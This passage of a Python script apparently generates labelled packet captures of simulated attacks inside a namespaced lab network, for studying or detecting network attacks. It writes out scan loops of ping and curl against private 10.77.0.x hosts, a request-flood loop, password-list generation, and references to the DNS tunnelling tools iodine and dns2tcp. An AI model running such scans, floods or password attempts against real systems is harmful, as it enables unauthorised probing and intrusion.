    "quiet-probe": (75, [mine("probe", 30, 34, 80, 2, 70)]),
    "quiet-watch-pages": (60, ["sh -c 'for r in 1 2 3 4 5; do for h in $(seq 44 58); do ping -n -c 1 -W 1 10.77.0.$h; curl -s -m 3 http://10.77.0.$h/7.html; done; sleep 6; done'"]),
    "quiet-probe-pages": (60, ["sh -c 'for r in $(seq 1 28); do for h in 36 37 38; do curl -s -I -m 1 http://10.77.0.$h/; done; sleep 1.8; done'"]),
    "quiet-crawl-slow": (60, [mine("crawl", 34, 48, 4.0, 55)]),
    "quiet-talk": (75, [mine("talk", D, 16384, 300, 5)], mine("answer", 16384, 5, 72)),
    "quiet-api": (60, [mine("pages", W, 6, 0.6, 55, 5000)]),
    "quiet-admin": (75, [mine("look_after", "KEY", W, 1.5, 70)]),
    "quiet-poll": (75, [mine("many", 2, "poll", W, 2, 70)]),
    "quiet": (120, []),
    "quiet-busy": (60, [f"sh -c 'for i in $(seq 1 1500); do curl -s -m 5 http://{W}/$((i % 40)).html; done'"]),
    "quiet-page": (60, [f"sh -c 'for i in $(seq 1 60); do for j in 1 2 3 4 5 6; do curl -s -m 5 http://{W}/$(((i + j) % 40)).html & done; wait; sleep 0.3; done'"]),
}


def cut(capture, most):
    """A pcap file whose packets have at most so many bytes: what is encrypted or filled up tells nothing and does not compress."""
    out, place = [capture[:24]], 24
    while place + 16 <= len(capture):
        seconds, micros, kept, length = struct.unpack("<IIII", capture[place:place + 16])
        packet = capture[place + 16:place + 16 + kept]
        out += [struct.pack("<IIII", seconds, micros, min(len(packet), most), length), packet[:most]]
        place += 16 + kept
    return b"".join(out)


def most_of(name):
    """Bytes of a packet that are kept: of names all, for that is what is told by them."""
    if any(word in name for word in ("names", "hex", "iodine", "dns2tcp")):
        return 600
    if "pages-" in name or name == "quiet-talk":
        return 70
    return 90 if "ssh" in name or name == "carry-web" else 110


def record(network, folder, name):
    seconds, commands, *beyond = CAPTURES[name]
    raw = os.path.join(network.folder, "raw.pcap")
    tcpdump = subprocess.Popen(["ip", "netns", "exec", LAN, "tcpdump", "-i", "br0", "-s", "600", "-w", raw, "-U", "-B", "16384", "ip"],
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    servers = [start("deep", command.replace("FOLDER", network.folder)) for command in beyond]
    time.sleep(1)
    until = time.time() + seconds
    clients = []
    for number, host in enumerate(("anna", "ben")):
        child = os.fork()
        if child == 0:
            ordinary(network, host, seconds - 2 if not commands else 600, zlib.crc32(name.encode()) + number)
            os._exit(0)
        clients.append(child)
    time.sleep(2)
    for command in commands:
        process = start("mallory", command.replace("KEY", f"{network.folder}/key"))
        try:
            process.wait(timeout=max(1, until - time.time()))
        except subprocess.TimeoutExpired:
            stop([process])
    if not commands:
        time.sleep(seconds)
    time.sleep(2)
    for child in clients:
        try:
            os.kill(child, signal.SIGTERM)
        except ProcessLookupError:
            pass
        os.waitpid(child, 0)
    stop(servers)
    tcpdump.terminate()
    tcpdump.wait()
    with open(raw, "rb") as content, open(os.path.join(folder, f"{name}.pcap.gz"), "wb") as out:
        with gzip.GzipFile(fileobj=out, mode="wb", mtime=0, filename="") as packed:
            packed.write(cut(content.read(), most_of(name)))
    print(f"{name}: {os.path.getsize(raw):,} bytes", flush=True)


def main():
    arguments = sys.argv[1:]
    if arguments[:1] == ["--list"]:
        print("\n".join(CAPTURES))
    elif arguments[:1] == ["--ask"]:
        ask(*arguments[1:])
    elif arguments[:1] == ["--do"]:
        numbers = [float(text) if "." in text and text.count(".") == 1 else int(text) if text.isdigit() else text for text in arguments[2:]]
        globals()[arguments[1]](*numbers)
    elif arguments:
        with open(LIST, "w") as passwords:
            passwords.writelines(f"{word}{number}\n" for number in range(60) for word in PASSWORDS)
        with open("/tmp/ov-few", "w") as passwords:
            passwords.writelines(f"{word}\n" for word in PASSWORDS[:4])
        os.makedirs(arguments[0], exist_ok=True)
        with Network() as network:
            for name in arguments[1:] or CAPTURES:
                record(network, arguments[0], name)
        os.remove(LIST)
        os.remove("/tmp/ov-few")
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
